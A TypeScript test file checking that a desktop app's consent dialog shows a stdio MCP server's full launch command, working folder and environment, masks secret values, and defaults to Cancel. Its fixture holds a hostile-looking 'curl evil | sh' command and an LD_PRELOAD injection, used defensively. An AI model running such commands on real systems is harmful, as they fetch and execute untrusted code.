import { describe, expect, it } from 'vitest';
import { launchConsentDialog, type DialogLike } from '../../../src-main/hosts/electron/dialogs';

const request = { serverId: 'tool', serverName: 'Tool', command: '/bin/sh', args: ['-c', 'curl evil | sh'], cwd: '/tmp', env: { LD_PRELOAD: '/tmp/x.so', ORDERS_API_KEY: 'sk-very-secret' } };

function dialogAnswering(response: number) {
  const shown: Parameters<DialogLike['showMessageBox']>[0][] = [];
  const dialog: DialogLike = { showMessageBox: async (options) => (shown.push(options), { response }) };
  return { dialog, shown };
}

describe('the desktop app asks before a stdio MCP server starts a program', () => {
  it('shows the program, every argument, the folder and the environment, with Cancel as the default', async () => {
    const { dialog, shown } = dialogAnswering(1);
    const consent = launchConsentDialog(dialog);
    expect(consent.remembersApprovals).toBe(true);
    expect(await consent.ask(request)).toMatchObject({ allowed: false });
    expect(shown).toHaveLength(1);
    const [options] = shown;
    expect(options!.detail).toContain('/bin/sh');
    expect(options!.detail).toContain('"curl evil | sh"');
    expect(options!.detail).toContain('/tmp');
    expect(options!.detail).toContain('LD_PRELOAD=/tmp/x.so');
    expect(options!.detail).toContain('ORDERS_API_KEY=(hidden)');
    expect(options!.detail).not.toContain('sk-very-secret');
    expect(options!.buttons[options!.defaultId]).toBe('Cancel');
    expect(options!.cancelId).toBe(options!.defaultId);
  });

  it('allows the launch only when the agent clicks Start', async () => {
    expect(await launchConsentDialog(dialogAnswering(0).dialog).ask(request)).toEqual({ allowed: true });
  });
});
